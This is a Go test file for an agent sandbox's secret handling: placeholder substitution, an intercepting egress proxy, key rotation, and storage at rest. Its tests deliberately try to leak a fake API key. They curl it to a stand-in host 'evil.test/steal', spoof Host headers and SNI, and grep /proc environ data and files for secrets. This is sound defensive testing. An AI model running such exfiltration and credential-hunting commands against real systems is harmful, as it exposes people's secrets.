//go:build linux

package local_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"errors"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/agentbox-dev/agentbox/internal/testenv"
	"github.com/agentbox-dev/agentbox/local"
	"github.com/agentbox-dev/agentbox/sandbox"
	"github.com/agentbox-dev/agentbox/toolbox"
)

// The secrets of local sandboxes. The "API" is an HTTPS server on the
// host's loopback with a CA of its own, which the sandboxes' egress
// proxies reach under made-up names (testHosts, secretHosts); it records
// the Authorization header of each request.

// secretValue is the value of the tests' secret: it must never be seen
// inside a sandbox.
const secretValue = "sk-live-0123456789abcdefSECRET"

// secretHosts are the made-up names of the API server.
var secretHosts = map[string]string{"api.test": "127.0.0.1", "evil.test": "127.0.0.1"}

// apiServer is the tests' HTTPS API.
type apiServer struct {
	port   string
	caPEM  []byte
	mu     sync.Mutex
	header []string // the Authorization headers received, by Host
}

// newAPIServer starts the API with a certificate for secretHosts signed
// by a CA of its own, on the host's loopback, or on the listeners lns
// (all on one port) when there are some.
func newAPIServer(t testing.TB, lns ...net.Listener) *apiServer {
	t.Helper()
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test API CA"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	ca, _ := x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(2), DNSNames: []string{"api.test", "evil.test"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	a := &apiServer{caPEM: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.header = append(a.header, strings.Split(r.Host, ":")[0]+" "+r.Header.Get("Authorization"))
		a.mu.Unlock()
		if r.URL.Path == "/big" {
			w.Write(make([]byte, 1<<20))
			return
		}
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "https://evil.test:"+a.port+"/landed", http.StatusFound)
			return
		}
		w.Write([]byte("api ok"))
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	srv.Config.ErrorLog = log.New(io.Discard, "", 0) // the probes' aborted handshakes
	if len(lns) > 0 {
		srv.Listener.Close()
		srv.Listener = lns[0]
	}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	for _, ln := range lns[min(1, len(lns)):] {
		go func() { _ = srv.Config.Serve(tls.NewListener(ln, srv.TLS)) }()
		t.Cleanup(func() { ln.Close() })
	}
	_, a.port, _ = net.SplitHostPort(srv.Listener.Addr().String())
	return a
}

// received returns the Authorization headers received so far and forgets
// them.
func (a *apiServer) received() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	h := a.header
	a.header = nil
	return h
}

// apiSecret is the tests' secret, for api.test.
func apiSecret(value string) []sandbox.Secret {
	return []sandbox.Secret{{Name: "API_KEY", Value: value, Hosts: []string{"api.test"}}}
}

// secretsDomainSandbox returns a started sandbox with the domain allow
// list api.test,evil.test and the secret API_KEY for api.test, whose
// proxy trusts api's CA.
func secretsDomainSandbox(t testing.TB, api *apiServer) *local.Sandbox {
	t.Helper()
	testenv.Need(t, haveCurl(), "curl is not installed: the probes run it inside the sandbox")
	testenv.Need(t, os.Geteuid() == 0, "the domain allow list's sandboxes need root here")
	sb := openSandbox(t, local.Options{Config: local.Config{Network: netPolicy(t, false, "", "api.test,evil.test"), Secrets: apiSecret(secretValue)}})
	local.SetEgressTestHooks(sb, secretHosts, true)
	local.SetSecretsTestRoots(sb, api.caPEM)
	if _, err := sb.Start(context.Background()); err != nil {
		t.Fatalf("start: %v", err)
	}
	return sb
}

// callAPI has curl in sb send $API_KEY as a bearer token to host, and
// returns its output.
func callAPI(t *testing.T, sb *local.Sandbox, api *apiServer, host string) string {
	t.Helper()
	code, out := curl(t, sb, `-H "Authorization: Bearer $API_KEY" https://`+host+":"+api.port+"/v1")
	if code != 0 {
		t.Fatalf("curl to %s: exit %d: %s", host, code, out)
	}
	return out
}

// placeholderOf returns the value of API_KEY in sb's commands.
func placeholderOf(t *testing.T, sb *local.Sandbox) string {
	t.Helper()
	return strings.TrimSpace(mustRun(t, sb, `printf %s "$API_KEY"`))
}

// insideGrep is the command that lists the files of a sandbox holding s:
// the whole tree of / on its own file systems but the host's read-only
// /usr and the kernel's, bounded in time.
func insideGrep(s string) string {
	return "timeout 60 grep -rlsF --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=dev -e '" + s + "' / | head -3"
}

func TestSecretsBadInput(t *testing.T) {
	big := strings.Repeat("x", sandbox.MaxSecretValue+1)
	cases := map[string]local.Config{
		"name":       {Secrets: []sandbox.Secret{{Name: "1-BAD", Value: "v", Hosts: []string{"api.test"}}}},
		"value-size": {Secrets: []sandbox.Secret{{Name: "K", Value: big, Hosts: []string{"api.test"}}}},
		"host":       {Secrets: []sandbox.Secret{{Name: "K", Value: "v", Hosts: []string{"https://api.test/x"}}}},
		"no-host":    {Secrets: []sandbox.Secret{{Name: "K", Value: "v"}}},
		"host-mode":  {Secrets: apiSecret("v"), Network: sandbox.NetworkPolicy{Mode: sandbox.NetworkHost}},
		"blocked":    {Secrets: apiSecret("v"), Network: netPolicy(t, true, "", "")},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			stateDir := t.TempDir()
			_, err := local.New(local.Options{StateDir: stateDir, ID: "bad", Config: c})
			if !errors.Is(err, sandbox.ErrInvalidArgument) {
				t.Fatalf("New: err = %v, want one matching ErrInvalidArgument", err)
			}
			if strings.Contains(err.Error(), "xxxxxxxx") {
				t.Errorf("the error holds the value: %.200s", err)
			}
			if _, err := os.Stat(filepath.Join(stateDir, "sandboxes", "bad")); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("a sandbox folder was left: %v", err)
			}
		})
	}
}

func TestSetSecretsBadInputChangesNothing(t *testing.T) {
	sb := newSandbox(t, local.Options{Config: local.Config{Secrets: apiSecret(secretValue)}})
	before := placeholderOf(t, sb)
	err := sb.SetSecrets(context.Background(), []sandbox.Secret{{Name: "API_KEY", Value: "new", Hosts: []string{"not a host"}}})
	if !errors.Is(err, sandbox.ErrInvalidArgument) {
		t.Fatalf("SetSecrets: err = %v, want one matching ErrInvalidArgument", err)
	}
	if got := placeholderOf(t, sb); got != before {
		t.Errorf("placeholder %q after a refused SetSecrets, want %q", got, before)
	}
	info, _ := sb.Info(context.Background())
	if len(info.Secrets) != 1 || info.Secrets[0].Hosts[0] != "api.test" {
		t.Errorf("Info.Secrets = %+v, want API_KEY for api.test", info.Secrets)
	}
}

func TestSecretsPlaceholderInEnvironment(t *testing.T) {
	sb := newSandbox(t, local.Options{Config: local.Config{Secrets: apiSecret(secretValue)}})
	p := placeholderOf(t, sb)
	if !strings.HasPrefix(p, "agentbox_secret_") || strings.Contains(p, secretValue) {
		t.Fatalf("API_KEY = %q, want a placeholder", p)
	}
	for _, v := range []string{"SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO", "NODE_EXTRA_CA_CERTS"} {
		if f := strings.TrimSpace(mustRun(t, sb, `printf %s "$`+v+`"`)); f == "" || run(t, sb, "grep -q 'BEGIN CERTIFICATE' "+f).ExitCode != 0 {
			t.Errorf("%s = %q: not a file holding the CA", v, f)
		}
	}
	// Processes the toolbox starts by itself (no per-call environment)
	// get it too.
	res, err := sb.Client().Execute(context.Background(), toolbox.ExecuteRequest{Command: "env"})
	if err != nil || !strings.Contains(res.Result, "API_KEY="+p+"\n") {
		t.Errorf("toolbox execute: env = %q (%v), want API_KEY=%s", res.Result, err, p)
	}
}

func TestSecretsValueNeverInside(t *testing.T) {
	sb := newSandbox(t, local.Options{Config: local.Config{Secrets: apiSecret(secretValue)}})
	mustRun(t, sb, "env > /tmp/env.txt; sleep 30 & echo started")
	for _, probe := range []string{
		"env", "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'", "ps auxwwe", "cat /tmp/env.txt",
	} {
		out := run(t, sb, probe).Stdout
		if strings.Contains(out, secretValue) {
			t.Errorf("%s shows the value", probe)
		}
	}
	if out := run(t, sb, insideGrep(secretValue)).Stdout; out != "" {
		t.Errorf("files inside hold the value: %s", out)
	}
	// The same search finds the placeholder, in the file written above.
	if out := run(t, sb, insideGrep(placeholderOf(t, sb))).Stdout; !strings.Contains(out, "/tmp/env.txt") {
		t.Errorf("the search for the placeholder found %q, want /tmp/env.txt: the probe does not search", out)
	}
}

func TestSecretsAtRest(t *testing.T) {
	sb := newSandbox(t, local.Options{Config: local.Config{Secrets: apiSecret(secretValue)}})
	dir := filepath.Join(sb.StateDir(), "sandboxes", sb.ID())
	for _, f := range []string{"meta.json", "secrets.json"} {
		b, err := os.ReadFile(filepath.Join(dir, f))
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(b), secretValue) {
			t.Errorf("%s holds the value", f)
		}
	}
	if fi, err := os.Stat(filepath.Join(dir, "secrets.json")); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("secrets.json: %v, mode %v, want 0600", err, fi.Mode())
	}
	info, err := sb.Info(context.Background())
	if err != nil || len(info.Secrets) != 1 || info.Secrets[0].Name != "API_KEY" {
		t.Fatalf("Info.Secrets = %+v (%v)", info.Secrets, err)
	}
	if strings.Contains(sb.Instructions(), secretValue) || !strings.Contains(sb.Instructions(), "$API_KEY") {
		t.Errorf("Instructions: %s", sb.Instructions())
	}
	// The CA key, the seal key and the secrets file are not readable inside.
	caKey, err := os.ReadFile(filepath.Join(sb.StateDir(), "secrets-ca", "ca-key.pem"))
	if err != nil {
		t.Fatal(err)
	}
	line := strings.Split(string(caKey), "\n")[1]
	if out := run(t, sb, insideGrep(line)).Stdout; out != "" {
		t.Errorf("files inside hold the CA key: %s", out)
	}
	// Nor the sealed record: its text is nowhere inside.
	rec, _ := os.ReadFile(filepath.Join(dir, "secrets.json"))
	_, sealed, _ := strings.Cut(string(rec), `"sealed": "`)
	if len(sealed) < 24 {
		t.Fatalf("secrets.json has no sealed value: %s", rec)
	}
	if out := run(t, sb, insideGrep(sealed[:24])).Stdout; out != "" {
		t.Errorf("files inside hold the sealed record: %s", out)
	}
	if out := run(t, sb, "ls "+sb.StateDir()+" 2>&1; cat "+filepath.Join(dir, "secrets.json")+" 2>&1").Stdout; strings.Contains(out, "sealed") || strings.Contains(out, "secrets-ca") {
		t.Errorf("the state dir is visible inside: %s", out)
	}
}

func TestSecretsKeepPlaceholderAcrossRestart(t *testing.T) {
	sb := newSandbox(t, local.Options{Config: local.Config{Secrets: apiSecret(secretValue)}})
	before := placeholderOf(t, sb)
	if err := sb.Stop(context.Background()); err != nil {
		t.Fatal(err)
	}
	if got := placeholderOf(t, sb); got != before {
		t.Errorf("placeholder after a restart %q, want %q", got, before)
	}
}

func TestSecretsForkGetsNewPlaceholders(t *testing.T) {
	sb := newSandbox(t, local.Options{Config: local.Config{Secrets: apiSecret(secretValue)}})
	before := placeholderOf(t, sb)
	fork, err := sb.Fork(context.Background(), sandbox.ForkOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { fork.Destroy(context.Background()) })
	got := placeholderOf(t, fork)
	if got == before || !strings.HasPrefix(got, "agentbox_secret_") {
		t.Errorf("the fork's placeholder is %q, the source's %q: want a new one", got, before)
	}
}

func TestSecretsDomainAllowListSubstitutes(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	if out := callAPI(t, sb, api, "api.test"); out != "api ok" {
		t.Fatalf("curl: %q", out)
	}
	wantValue(t, api, secretValue)
}

func TestSecretsDomainAllowListPython(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	testenv.Need(t, run(t, sb, "command -v python3").ExitCode == 0, "python3 is not installed in the sandbox")
	py := `import os, urllib.request as u
r = u.Request("https://api.test:` + api.port + `/py", headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
print(u.urlopen(r, timeout=10).read().decode())`
	if out := mustRun(t, sb, "python3 -c '"+py+"'"); strings.TrimSpace(out) != "api ok" {
		t.Fatalf("python: %q", out)
	}
	wantValue(t, api, secretValue)
}

func TestSecretsDomainAllowListNode(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	testenv.Need(t, run(t, sb, "command -v node").ExitCode == 0, "node is not installed in the sandbox")
	// Node 20 ignores HTTPS_PROXY: the script opens the tunnel itself,
	// and trusts the CA through NODE_EXTRA_CA_CERTS.
	js := `const http = require("http"), tls = require("tls");
const req = http.request({host: "127.0.0.1", port: 3128, method: "CONNECT", path: "api.test:` + api.port + `", headers: {Host: "api.test:` + api.port + `"}});
req.on("connect", (res, socket) => {
  const t = tls.connect({socket, servername: "api.test"}, () => {
    t.write("GET /node HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + process.env.API_KEY + "\r\nConnection: close\r\n\r\n");
  });
  let d = "";
  t.on("data", c => d += c);
  t.on("end", () => console.log(d.split("\r\n\r\n")[1]));
});
req.end();`
	if out := mustRun(t, sb, "cat > /tmp/call.js <<'EOF'\n"+js+"\nEOF\nnode /tmp/call.js"); strings.TrimSpace(out) != "api ok" {
		t.Fatalf("node: %q", out)
	}
	wantValue(t, api, secretValue)
}

func TestSecretsOtherHostGetsPlaceholder(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	p := placeholderOf(t, sb)
	// evil.test is on the domain allow list but not a host of the secret:
	// its connection is not intercepted (curl verifies the API's own
	// certificate against the API's CA, given here).
	code, out := curl(t, sb, "--cacert "+trustAPI(t, sb, api)+` -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/steal")
	if code != 0 {
		t.Fatalf("curl to evil.test: exit %d: %s", code, out)
	}
	if got := api.received(); len(got) != 1 || got[0] != "evil.test Bearer "+p {
		t.Errorf("evil.test got %q, want the placeholder only", got)
	}
}

func TestSecretsSpoofedHostHeader(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	p := placeholderOf(t, sb)
	// A tunnel to evil.test whose request says Host: api.test.
	code, out := curl(t, sb, "--cacert "+trustAPI(t, sb, api)+` -H "Host: api.test" -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/spoof")
	if code != 0 {
		t.Fatalf("curl: exit %d: %s", code, out)
	}
	for _, h := range api.received() {
		if strings.Contains(h, secretValue) || !strings.Contains(h, p) {
			t.Errorf("the API got %q, want the placeholder only", h)
		}
	}
}

func TestSetSecretsLiveRotateAndDetach(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	ctx := context.Background()
	before := placeholderOf(t, sb)
	if err := sb.SetSecrets(ctx, apiSecret(secretValue+"-rotated")); err != nil {
		t.Fatal(err)
	}
	if got := placeholderOf(t, sb); got != before {
		t.Errorf("placeholder after rotation %q, want %q", got, before)
	}
	callAPI(t, sb, api, "api.test")
	wantValue(t, api, secretValue+"-rotated")
	if err := sb.SetSecrets(ctx, nil); err != nil {
		t.Fatal(err)
	}
	if got := placeholderOf(t, sb); got != "" {
		t.Errorf("API_KEY after detach = %q, want none", got)
	}
	info, _ := sb.Info(ctx)
	if len(info.Secrets) != 0 {
		t.Errorf("Info.Secrets after detach = %+v", info.Secrets)
	}
	// A process that kept the old placeholder sends it unchanged.
	code, out := curl(t, sb, "--cacert "+trustAPI(t, sb, api)+` -H "Authorization: Bearer `+before+`" https://api.test:`+api.port+"/after")
	if code != 0 {
		t.Fatalf("curl after detach: exit %d: %s", code, out)
	}
	if got := api.received(); len(got) != 1 || got[0] != "api.test Bearer "+before {
		t.Errorf("after detach the API got %q, want the placeholder", got)
	}
}

// wantValue fails the test unless the API got one request, to api.test,
// with value.
func wantValue(t *testing.T, api *apiServer, value string) {
	t.Helper()
	if got := api.received(); len(got) != 1 || got[0] != "api.test Bearer "+value {
		t.Errorf("the API got %q, want %s at api.test", got, value)
	}
}

// noValue fails the test when the API got the value.
func noValue(t *testing.T, api *apiServer) {
	t.Helper()
	for _, h := range api.received() {
		if strings.Contains(h, secretValue) {
			t.Errorf("the API got the value: %q", h)
		}
	}
}

func TestSecretsEscapeConnectToIP(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	code, out := curl(t, sb, `-k -H "Authorization: Bearer $API_KEY" https://127.0.0.1:`+api.port+"/ip")
	if code == 0 {
		t.Errorf("a CONNECT to the API's address succeeded: %s", out)
	}
	noValue(t, api)
}

func TestSecretsEscapeRedirectToOtherHost(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	p := placeholderOf(t, sb)
	// curl follows the redirect to evil.test with the header
	// (--location-trusted); evil.test's connection is not intercepted.
	code, out := curl(t, sb, "--location-trusted --cacert "+trustAPI(t, sb, api)+` -H "Authorization: Bearer $API_KEY" https://api.test:`+api.port+"/redirect")
	if code != 0 || out != "api ok" {
		t.Fatalf("curl: exit %d: %s", code, out)
	}
	got := api.received()
	if len(got) != 2 || got[0] != "api.test Bearer "+secretValue || got[1] != "evil.test Bearer "+p {
		t.Errorf("the API got %q, want the value at api.test and the placeholder at evil.test", got)
	}
}

func TestSecretsEscapeSpoofedSNI(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	testenv.Need(t, run(t, sb, "command -v openssl").ExitCode == 0, "openssl is not installed in the sandbox")
	// A tunnel to evil.test whose ClientHello names api.test.
	run(t, sb, `printf 'GET /sni HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' "$API_KEY" | timeout 10 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect evil.test:`+api.port+` -servername api.test 2>&1`)
	noValue(t, api)
}

func TestSecretsCleartextKeepsPlaceholder(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	port := originServer(t)
	// api.test over cleartext HTTP: the secret allows TLS only.
	code, out := curl(t, sb, `-H "Authorization: Bearer $API_KEY" http://api.test:`+port+"/clear")
	if code != 0 || strings.Contains(out, secretValue) {
		t.Errorf("exit %d: %q", code, out)
	}
	policyLog(t, sb, "API_KEY")
}

func TestSecretsEgressProxyEndsWithSandbox(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	pid := local.EgressProxyPID(sb)
	if pid == 0 {
		t.Fatal("no egress proxy serves the sandbox")
	}
	if err := sb.Destroy(context.Background()); err != nil {
		t.Fatal(err)
	}
	if !poll(5*time.Second, func() bool { return processGone(pid) }) {
		t.Errorf("the egress proxy %d still runs after the sandbox's removal", pid)
	}
}

// trustAPI writes in sb a bundle of its trust variables' bundle and the
// API's own CA, and returns its path: curl then verifies both the
// secrets proxy's certificates and the API's, seen through a tunnel that
// is not intercepted.
func trustAPI(t testing.TB, sb *local.Sandbox, api *apiServer) string {
	t.Helper()
	mustRun(t, sb, "cat \"$SSL_CERT_FILE\" > /tmp/api-bundle.pem && cat >> /tmp/api-bundle.pem <<'EOF'\n"+string(api.caPEM)+"EOF")
	return "/tmp/api-bundle.pem"
}

func TestSetSecretsBeforeCreateShapesIt(t *testing.T) {
	sb := openSandbox(t, local.Options{})
	if err := sb.SetSecrets(context.Background(), apiSecret(secretValue)); err != nil {
		t.Fatal(err)
	}
	if p := placeholderOf(t, sb); !strings.HasPrefix(p, "agentbox_secret_") {
		t.Errorf("API_KEY = %q in the sandbox created after SetSecrets, want a placeholder", p)
	}
}

func TestSetSecretsAddsInterceptionLive(t *testing.T) {
	api := newAPIServer(t)
	testenv.Need(t, haveCurl(), "curl is not installed: the probes run it inside the sandbox")
	testenv.Need(t, os.Geteuid() == 0, "the domain allow list's sandboxes need root here")
	sb := openSandbox(t, local.Options{Config: local.Config{Network: netPolicy(t, false, "", "api.test,evil.test")}})
	local.SetEgressTestHooks(sb, secretHosts, true)
	local.SetSecretsTestRoots(sb, api.caPEM)
	if _, err := sb.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	if err := sb.SetSecrets(context.Background(), apiSecret(secretValue)); err != nil {
		t.Fatal(err)
	}
	callAPI(t, sb, api, "api.test")
	wantValue(t, api, secretValue)
}

func TestSetSecretsRefusedWhilePaused(t *testing.T) {
	sb := pausedSandbox(t, local.Options{Config: local.Config{Secrets: apiSecret(secretValue)}})
	err := sb.SetSecrets(context.Background(), apiSecret(secretValue+"-new"))
	if !errors.Is(err, sandbox.ErrInvalidState) {
		t.Fatalf("SetSecrets on a paused sandbox: err = %v, want one matching ErrInvalidState", err)
	}
}

func TestSecretsInNoProcessArgvOrEnvironment(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	callAPI(t, sb, api, "api.test") // egressd holds the value now
	if local.EgressProxyPID(sb) == 0 {
		t.Fatal("no egress proxy serves the sandbox")
	}
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		for _, f := range []string{"cmdline", "environ"} {
			if b, err := os.ReadFile(filepath.Join(p, f)); err == nil && strings.Contains(string(b), secretValue) {
				t.Errorf("%s/%s holds the value", p, f)
			}
		}
	}
}

func TestSecretsSurviveEgressProxyRestart(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	killEgressProxy(t, sb)
	// The next command starts a proxy again, which gets the secrets from
	// the sandbox's folder.
	callAPI(t, sb, api, "api.test")
	wantValue(t, api, secretValue)
}

func TestSecretsRotationReachesRunningProcess(t *testing.T) {
	api := newAPIServer(t)
	sb := secretsDomainSandbox(t, api)
	// A process started before the rotation waits for a line on its
	// stdin, then calls the API with the placeholder its environment got
	// at its start.
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	p, err := sb.Processes().Spawn(ctx, `read x; curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" https://api.test:`+api.port+`/late`, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer p.Kill(context.Background())
	if err := sb.SetSecrets(ctx, apiSecret(secretValue+"-rotated")); err != nil {
		t.Fatal(err)
	}
	if err := p.SendStdin(ctx, []byte("go\n")); err != nil {
		t.Fatal(err)
	}
	res, err := p.Wait(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if res.Stdout != "api ok" {
		t.Fatalf("the running process's request: exit %d, stdout %q, stderr %q", res.ExitCode, res.Stdout, res.Stderr)
	}
	wantValue(t, api, secretValue+"-rotated")
}
